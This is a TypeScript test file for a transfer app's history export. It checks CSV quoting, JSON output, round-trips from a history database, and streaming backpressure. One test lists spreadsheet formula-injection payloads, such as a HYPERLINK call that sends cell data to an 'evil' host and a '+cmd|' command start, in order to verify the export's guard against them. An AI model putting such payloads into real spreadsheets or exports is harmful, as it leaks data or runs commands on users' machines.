// History exports (main/core/history/export.ts): CSV as RFC 4180 with a guard against spreadsheet formulas,
// JSON as one valid array, both read back field for field from a real history.db of a few thousand records,
// and written with the stream's backpressure respected (the records are read as the output takes them).
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { HistoryStore } from '../../main/core/history';
import { csvChunks, HISTORY_CSV_COLUMNS, jsonChunks, writeHistoryExport } from '../../main/core/history/export';
import type { HistoryExportFormat, HistoryRecord } from '../../shared/history';

const T0 = Date.UTC(2026, 11, 8, 9, 41, 0, 123);

function record(n: number, fields: Partial<HistoryRecord> = {}): HistoryRecord {
  return {
    id: `job-${Math.floor(n / 10)}:${n % 10}`,
    jobId: `job-${Math.floor(n / 10)}`,
    source: `/home/me/file ${n}.txt`,
    destination: `ftp://me@127.0.0.1:2121/up/file ${n}.txt`,
    sourceConnection: 'local',
    destinationConnection: 'ftp://me@127.0.0.1:2121',
    size: 1000 + n,
    bytesDone: 1000 + n,
    startedAt: T0 - n * 1000,
    endedAt: T0 - n * 1000 + 250,
    durationMs: 250,
    rate: 4000 + n * 4,
    result: 'done',
    verification: { check: 'sha256', value: n.toString(16).padStart(64, '0') },
    deviceId: '3c916c13-c283-4658-8072-e8025ee13265',
    deviceName: 'laptop',
    appVersion: '0.1.0',
    updatedAt: T0 - n * 1000 + 250,
    ...fields,
  };
}

/** An RFC 4180 reader: quoted cells may hold commas, doubled quotes and line breaks; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === '') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  assert.equal(quoted, false, 'every quoted cell is closed');
  assert.equal(row.length + cell.length, 0, 'the last record ends with CRLF');
  return rows;
}

/** A CSV cell as written, without the export's formula guard (the single quote before = + - @ TAB CR). */
function unguard(cell: string): string {
  return /^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell;
}

/** A record read back from a CSV row: empty cells are absent fields, dates ISO 8601. */
function fromCsv(header: string[], cells: string[]): HistoryRecord {
  const value = new Map(header.map((name, i) => [name, unguard(cells[i]!)]));
  const text = (name: string) => value.get(name) || undefined;
  const number = (name: string) => (text(name) === undefined ? undefined : Number(text(name)));
  const date = (name: string) => (text(name) === undefined ? undefined : Date.parse(text(name)!));
  const out: Record<string, unknown> = {
    id: text('id'),
    jobId: text('jobId'),
    syncRunId: text('syncRunId'),
    source: text('source'),
    destination: text('destination'),
    sourceConnection: text('sourceConnection'),
    destinationConnection: text('destinationConnection'),
    size: number('size'),
    bytesDone: number('bytesDone'),
    startedAt: date('startedAt'),
    endedAt: date('endedAt'),
    durationMs: number('durationMs'),
    rate: number('rate'),
    result: text('result'),
    errorCode: text('errorCode'),
    errorMessage: text('errorMessage'),
    verification: text('verificationCheck')
      ? { check: text('verificationCheck'), ...(text('verificationValue') ? { value: text('verificationValue') } : {}) }
      : undefined,
    deviceId: text('deviceId'),
    deviceName: text('deviceName'),
    appVersion: text('appVersion'),
    updatedAt: date('updatedAt'),
  };
  for (const key of Object.keys(out)) if (out[key] === undefined) delete out[key];
  return out as unknown as HistoryRecord;
}

/** A Writable that keeps what it receives; `delay` makes each write take a turn of the event loop. */
function sink(options: { highWaterMark?: number; slow?: boolean; failOnWrite?: number } = {}) {
  const chunks: string[] = [];
  let writes = 0;
  const stream = new Writable({
    highWaterMark: options.highWaterMark ?? 16 * 1024,
    decodeStrings: false,
    write(chunk: string, _encoding, callback) {
      writes++;
      if (options.failOnWrite === writes) return callback(Object.assign(new Error('write EPIPE'), { code: 'EPIPE' }));
      chunks.push(chunk);
      if (options.slow) setImmediate(callback);
      else callback();
    },
  });
  return { stream, text: () => chunks.join(''), received: () => chunks.reduce((sum, c) => sum + c.length, 0) };
}

async function exported(records: Iterable<HistoryRecord>, format: HistoryExportFormat): Promise<string> {
  const out = sink();
  await writeHistoryExport(records, format, out.stream);
  return out.text();
}

/** Text that exercises CSV: separators, quotes, line breaks, formula starts, non-ASCII, a bidi override. */
function awkwardText(random: () => number, length: number): string {
  const pieces = [
    'a',
    'Z',
    ' ',
    ',',
    '"',
    '\n',
    '\r\n',
    '\r',
    '=',
    '+',
    '-',
    '@',
    '\t',
    'é',
    '世',
    "'",
    ';',
    '\u202e',
    '🙂',
  ];
  let text = '';
  for (let i = 0; i < length; i++) text += pieces[Math.floor(random() * pieces.length)];
  // A leading quote before a formula character would read back as guarded: the one ambiguity of the guard.
  return text.startsWith("'") ? `x${text}` : text;
}

/** A small deterministic generator (mulberry32), so a failure repeats. */
function seeded(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

describe('history export: CSV', () => {
  it('has a header of every field, with verification as two columns, and one CRLF-ended row per record', async () => {
    const text = await exported([record(1), record(2, { verification: undefined, size: undefined })], 'csv');
    const rows = parseCsv(text);
    assert.deepEqual(rows[0], [...HISTORY_CSV_COLUMNS]);
    assert.equal(rows.length, 3);
    const [header, first, second] = rows as [string[], string[], string[]];
    const cell = (row: string[], name: string) => row[header.indexOf(name)];
    assert.equal(cell(first, 'verificationCheck'), 'sha256');
    assert.equal(cell(first, 'verificationValue'), '1'.padStart(64, '0'));
    assert.equal(cell(first, 'startedAt'), '2026-12-08T09:40:59.123Z', 'ISO 8601 in UTC');
    assert.equal(cell(second, 'verificationCheck'), '');
    assert.equal(cell(second, 'size'), '', 'an absent field is an empty cell');
    assert.equal(text.split('\r\n').length, 4, 'each record ends in CRLF');
    assert.ok(!text.replaceAll('\r\n', '').includes('\n'), 'no bare line feed');
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    const fields = { source: '/a,b.txt', destination: 'say "hi".txt', errorMessage: 'two\nlines\r\nhere' };
    const [, row] = [...csvChunks([record(1, fields)])];
    assert.ok(row!.startsWith('job-0:1,job-0,,"/a,b.txt","say ""hi"".txt",local,'), row);
    assert.ok(row!.includes(',done,,"two\nlines\r\nhere",sha256,'), row);
    assert.deepEqual(parseCsv(row!)[0]!.slice(3, 5), [fields.source, fields.destination]);
  });

  it('puts a single quote before cells a spreadsheet would run as a formula', () => {
    const cases: Array<[string, string]> = [
      ['=HYPERLINK("http://evil/?"&A1)', `"'=HYPERLINK(""http://evil/?""&A1)"`],
      ['+1+cmd|x', "'+1+cmd|x"],
      ['-2+3', "'-2+3"],
      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
      ['\t=1', "'\t=1"],
      ['\r=1', `"'\r=1"`],
      ['=a,b', `"'=a,b"`],
      ['a=b', 'a=b'],
      ["'=already quoted", "'=already quoted"],
    ];
    for (const [text, expected] of cases) {
      const [, row] = [...csvChunks([record(1, { errorMessage: text, deviceName: text })])];
      assert.ok(row!.includes(`,done,,${expected},sha256,`), `errorMessage ${JSON.stringify(text)}: ${row}`);
      assert.ok(row!.endsWith(`,${expected},0.1.0,2026-12-08T09:40:59.373Z\r\n`), `deviceName ${JSON.stringify(text)}`);
    }
  });

  it('writes numbers as they are', () => {
    const [, row] = [...csvChunks([record(0, { size: 0, bytesDone: 0, rate: 0, durationMs: 0 })])];
    assert.match(
      row!,
      /,local,ftp:\/\/me@127\.0\.0\.1:2121,0,0,2026-12-08T09:41:00\.123Z,2026-12-08T09:41:00\.373Z,0,0,done,/,
    );
  });
});

describe('history export: JSON', () => {
  it('is one valid array for 0, 1 and many records', async () => {
    assert.equal(await exported([], 'json'), '[]\n');
    for (const count of [1, 2, 500]) {
      const records = Array.from({ length: count }, (_, n) => record(n, { errorMessage: `bad "name"\n${n}` }));
      const text = await exported(records, 'json');
      assert.deepEqual(JSON.parse(text), records, `${count} records`);
      assert.equal(text.split('\n').length, count + 3, 'one record per line between the brackets');
    }
  });

  it('is also what the chunks make when joined, without a trailing comma', () => {
    assert.equal([...jsonChunks([record(1)])].join(''), `[\n${JSON.stringify(record(1))}\n]\n`);
  });
});

describe('history export from a real history.db', () => {
  let dir: string;
  let store: HistoryStore;
  const COUNT = 3500; // more than three of HistoryStore.all()'s pages of 1000

  before(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'ferry-history-export-'));
    ({ store } = await HistoryStore.open(dir));
    const random = seeded(17);
    const results = ['done', 'failed', 'cancelled', 'skipped', 'running'] as const;
    const records: HistoryRecord[] = [];
    for (let n = 0; n < COUNT; n++) {
      const result = results[n % results.length]!;
      const full = n % 3 !== 0;
      records.push({
        id: `job-${Math.floor(n / 7)}:${n % 7}`,
        jobId: `job-${Math.floor(n / 7)}`,
        ...(n % 11 === 0 ? { syncRunId: `run-${n}` } : {}),
        source: `/src/${awkwardText(random, 1 + (n % 13))}`,
        destination: `s3://bucket/${awkwardText(random, 1 + (n % 9))}`,
        sourceConnection: 'local',
        destinationConnection: n % 2 ? 's3://bucket' : awkwardText(random, 5),
        ...(full ? { size: n * 1013 } : {}),
        bytesDone: full ? n * 1013 : 0,
        startedAt: T0 - n * 61_001,
        ...(result !== 'running' ? { endedAt: T0 - n * 61_001 + n, durationMs: n, rate: n * 3 } : {}),
        result,
        ...(result === 'failed' ? { errorCode: 'Network', errorMessage: awkwardText(random, 20) } : {}),
        ...(n % 4 === 0 ? { verification: { check: 'size' } } : {}),
        ...(n % 4 === 1 ? { verification: { check: 'md5', value: n.toString(16) } } : {}),
        deviceId: `device-${n % 3}`,
        deviceName: awkwardText(random, 1 + (n % 5)),
        appVersion: '0.1.0',
        updatedAt: T0 + n,
      });
    }
    store.write(records);
  });

  after(async () => {
    store?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('CSV reads back to the same fields, record for record', async () => {
    const rows = parseCsv(await exported(store.all(), 'csv'));
    const [header, ...body] = rows;
    assert.deepEqual(header, [...HISTORY_CSV_COLUMNS]);
    const expected = [...store.all()];
    assert.equal(expected.length, COUNT);
    assert.equal(body.length, COUNT);
    const back = body.map((cells) => fromCsv(header!, cells));
    for (let i = 0; i < COUNT; i++) assert.deepEqual(back[i], expected[i], `record ${i}`);
  });

  it('JSON reads back to the same records', async () => {
    assert.deepEqual(JSON.parse(await exported(store.all({ result: 'failed' }), 'json')), [
      ...store.all({ result: 'failed' }),
    ]);
    assert.equal(JSON.parse(await exported(store.all(), 'json')).length, COUNT);
  });
});

describe('history export: streaming', () => {
  /** Records made on demand, counting how many were taken. */
  function counted(total: number) {
    let taken = 0;
    function* records() {
      for (let n = 0; n < total; n++) {
        taken++;
        yield record(n);
      }
    }
    return { records: records(), taken: () => taken };
  }

  for (const format of ['csv', 'json'] as const) {
    it(`${format}: reads records only as fast as a slow output takes them`, async () => {
      const total = 20_000;
      const source = counted(total);
      const out = sink({ highWaterMark: 1024, slow: true });
      const recordBytes = (format === 'csv' ? [...csvChunks([record(1)])][1]! : JSON.stringify(record(1))).length;
      let mostAhead = 0;
      let drains = 0;
      // Each time the output has taken what it was given, compare how many records were read with how many
      // it received (from its byte count; records of higher numbers are a little longer, never shorter).
      out.stream.on('drain', () => {
        drains++;
        mostAhead = Math.max(mostAhead, source.taken() - out.received() / recordBytes);
      });
      await writeHistoryExport(source.records, format, out.stream);
      assert.equal(source.taken(), total);
      const expected = format === 'csv' ? total + 1 : JSON.parse(out.text()).length;
      if (format === 'csv') assert.equal(parseCsv(out.text()).length, expected);
      else assert.equal(expected, total);
      // One write gathers about 64 KiB; never more than a couple of those may wait in memory.
      const batch = (64 * 1024) / recordBytes;
      assert.ok(drains > 10, `the output was full and drained ${drains} times`);
      assert.ok(
        mostAhead < 3 * batch,
        `read ${Math.round(mostAhead)} records ahead of the output (batch ${Math.round(batch)})`,
      );
    });
  }

  it('stops reading records and rejects when the output fails (a reader that went away)', async () => {
    const source = counted(50_000);
    const out = sink({ failOnWrite: 2 });
    await assert.rejects(writeHistoryExport(source.records, 'csv', out.stream), { code: 'EPIPE' });
    assert.ok(source.taken() < 2000, `took ${source.taken()} records after the output failed`);
  });
});
